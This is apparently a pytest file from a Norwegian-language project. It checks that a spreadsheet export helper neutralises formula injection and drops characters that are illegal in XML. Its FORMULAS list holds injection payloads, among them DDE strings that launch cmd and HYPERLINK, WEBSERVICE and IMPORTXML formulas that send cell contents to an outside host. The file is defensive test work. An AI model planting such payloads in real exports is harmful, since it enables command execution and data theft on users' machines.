"""Cells of spreadsheets: no text becomes a formula, no file becomes unreadable."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from assistant.exports.cells import allowed_in_xml, safe_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Klikk")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n+1+1",
    "\ttekst",
    "\rtekst",
    "\x00=1+1",
    "\x0b=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    " \u00a0 \t-1-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "- et punkt i en liste",
    "-",
    "+47 22 33 44 55",
    '=IMPORTXML(CONCAT("http://example.org/?v=", A1), "//a")',
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe(payload):
    cell = safe_cell(payload)
    assert cell[0] == "'"
    assert cell[1:] == allowed_in_xml(payload)


@pytest.mark.parametrize("text", ["", "Mål 1", "a=b", "100 %", "«=»", "'=1+1", "-12", "+3,5", "-0.25", "Æ"])
def test_other_text_and_numbers_stay(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("character", ["\x00", "\x08", "\x0b", "\x1f", "\ud800", "\ufffe", "\uffff"])
def test_what_no_xml_may_hold_is_dropped(character):
    assert safe_cell(f"før{character}etter") == "føretter"


def test_line_breaks_tabs_and_far_letters_are_kept():
    assert safe_cell("a\tb\nc 😀") == "a\tb\nc 😀"


def test_excel_and_csv_hold_no_formula():
    book, stream = Workbook(), io.StringIO()
    for payload in FORMULAS:
        book.active.append([safe_cell(payload)])
    csv.writer(stream, delimiter=";").writerows([safe_cell(payload)] for payload in FORMULAS)
    file = io.BytesIO()
    book.save(file)
    file.seek(0)
    assert all(cell.data_type == "s" for (cell,) in load_workbook(file).active.iter_rows())
    stream.seek(0)
    assert all(row[0].startswith("'") for row in csv.reader(stream, delimiter=";"))
